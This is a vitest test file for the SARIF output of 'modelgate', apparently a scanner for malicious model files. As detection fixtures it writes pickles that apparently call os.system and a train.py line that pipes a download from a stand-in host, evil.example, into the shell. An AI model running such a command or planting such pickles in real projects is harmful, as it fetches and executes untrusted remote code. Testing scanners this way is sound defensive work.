import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Log, Result } from 'sarif';
import { describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { osSystemPickle } from '../helpers/pickles.js';
import { expectValidSarif } from '../report/sarif-schema.js';

/*
 * `modelgate scan -f sarif` in a git work tree (issue 17): artifact URIs relative to the work
 * tree's root from any folder in it, or to --sarif-root; lines for text files; info findings
 * only with --sarif-include-info. The work tree is a folder with a `.git` entry, as git makes it.
 */
const repo = realpathSync(mkdtempSync(join(tmpdir(), 'mg-sarif-')));
mkdirSync(join(repo, '.git'));
for (const folder of ['models/a', 'models/b', 'sub']) mkdirSync(join(repo, folder), { recursive: true });
writeFileSync(join(repo, 'models/a/model.pkl'), osSystemPickle());
writeFileSync(join(repo, 'models/b/model.pkl'), osSystemPickle());
writeFileSync(join(repo, 'models/a/train.py'), 'import os\n\n# fetch the weights\nos.system("curl -s https://evil.example/x | sh")\n');
// A link inside its target: an info finding that says where it points.
symlinkSync('model.pkl', join(repo, 'models/b/link.pkl'));
const outside = realpathSync(mkdtempSync(join(tmpdir(), 'mg-sarif-out-')));
writeFileSync(join(outside, 'evil.pkl'), osSystemPickle());

function sarifScan(cwd: string, ...args: string[]): Log {
  const out = runCli(['scan', '-f', 'sarif', '-q', ...args], { cwd });
  expect(out.status, out.stderr).toBe(1);
  return expectValidSarif(out.stdout);
}

function uris(log: Log): string[] {
  return (log.runs[0]!.results ?? []).map((r: Result) => r.locations![0]!.physicalLocation!.artifactLocation!.uri!);
}

describe('modelgate scan -f sarif', () => {
  it('names files relative to the git work tree, from a folder inside it, with distinct URIs for same-named files', () => {
    const log = sarifScan(join(repo, 'sub'), '../models/a', join(repo, 'models/b'));
    expect(uris(log)).toEqual(['models/a/model.pkl', 'models/a/train.py', 'models/b/model.pkl']);
    const fromRoot = sarifScan(repo, 'models/a', 'models/b');
    expect(uris(fromRoot)).toEqual(uris(log));
    expect(fromRoot.runs[0]!.results!.map((r) => r.partialFingerprints)).toEqual(log.runs[0]!.results!.map((r) => r.partialFingerprints));
  });

  it('gives the line of a finding in a text file', () => {
    const log = sarifScan(repo, 'models/a');
    const python = log.runs[0]!.results!.find((r) => r.locations![0]!.physicalLocation!.artifactLocation!.uri === 'models/a/train.py');
    expect(python?.locations![0]!.physicalLocation!.region).toMatchObject({ startLine: 4, startColumn: 1 });
  });

  it('takes --sarif-root, and gives a file outside it an absolute file URI', () => {
    const log = sarifScan(repo, '--sarif-root', 'models', 'models/b', join(outside, 'evil.pkl'));
    expect(uris(log)).toEqual(['b/model.pkl', `file://${outside}/evil.pkl`]);
  });

  it('keeps info findings only with --sarif-include-info', () => {
    const without = sarifScan(repo, 'models/b');
    const withInfo = sarifScan(repo, '--sarif-include-info', 'models/b');
    expect(uris(without)).toEqual(['models/b/model.pkl']);
    expect(uris(withInfo)).toContain('models/b/link.pkl');
  });

  it('refuses a --sarif-root that is not a folder', () => {
    const out = runCli(['scan', '-f', 'sarif', '--sarif-root', join(repo, 'missing'), 'models/a'], { cwd: repo });
    expect(out.status).toBe(2);
    expect(out.stderr).toMatch(/--sarif-root/);
    expect(runCli(['scan', '-f', 'sarif', '--sarif-root', join(repo, 'models/a/model.pkl'), 'models/a'], { cwd: repo }).status).toBe(2);
  });
});
